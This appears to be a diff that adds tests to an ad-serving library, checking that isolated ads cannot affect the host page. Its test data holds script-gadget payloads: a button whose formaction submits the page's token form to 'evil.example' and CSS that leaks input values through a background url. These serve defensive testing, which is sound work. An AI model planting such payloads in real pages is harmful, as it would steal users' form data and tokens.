@@ -64,6 +64,58 @@ for (const [what, head] of HEADS) {
   });
 }
 
+/** Html that needs no script of its own to use the page's. */
+const GADGETS: [what: string, html: string][] = [
+  ['a custom element of the page', '<x-menu class="ad">An ad</x-menu>'],
+  [
+    'attributes that libraries run',
+    '<p class="ad" x-init="pwn()" hx-get="/x" hx-trigger="load" data-controller="pwn">An ad</p>',
+  ],
+  [
+    'a button of the page’s form',
+    '<button class="ad" form="own" formaction="https://evil.example/">An ad</button>',
+  ],
+  [
+    'css that reads the page',
+    '<style>#own [value^=s] { background: url(/leak) }</style><p class="ad">An ad</p>',
+  ],
+];
+
+for (const [what, html] of GADGETS) {
+  test(`${what}, with isolation: 'frame' › is in the frame, and nowhere in the page`, async () => {
+    const style = '#own { background: url(/leak) }';
+    const wrapper = { htmlWrapperTop: '<section id="around">', htmlWrapperBottom: '</section>' };
+    const run = '<script>window.hasRun = 1</script>';
+    stage().adServer.setZone(
+      ZONE,
+      trackedAnswer({ html, style, trackingTags: `<img src="{{ADS}}/im.gif">${run}` }, wrapper),
+    );
+    const head = `<script>customElements.define('x-menu', class extends HTMLElement { connectedCallback() { window.hasRun = 1; } })</script>`;
+    const page = adPage({
+      elementId: 'slot',
+      head,
+      html: '<form id="own"><input name="token" value="secret"></form><div id="slot"></div>',
+      settings: { isolation: 'frame' },
+    });
+    const visit = await stage().open(page);
+    await concluded(visit.page);
+    await visit.page.frameLocator('iframe[title=Advertisement]:visible').locator('#around .ad').waitFor();
+    await stage().waitForHit(({ path }) => path.startsWith('/im.gif'));
+    await visit.settled();
+    const found = await visit.page.evaluate(() => [
+      document.querySelectorAll('.ad, #around').length,
+      'hasRun' in window,
+      [...document.querySelectorAll('style')].some(({ textContent }) => /leak/.test(textContent ?? '')),
+    ]);
+    assert.equal(found, [0, false, false]);
+    assert.equal(
+      visit.requests.filter((url) => /leak|evil|\/x$/.test(url)),
+      [],
+    );
+    assert.is(stage().pixels(/im\.gif/).length, 1);
+  });
+}
+
 test('a stylesheet, and the name of a drawing › stay', async () => {
   const html = `<div class="ad"><link rel="StyleSheet" href="/s.css"><svg><title>A cup</title></svg></div>`;
   stage().setPage('/s.css', '');
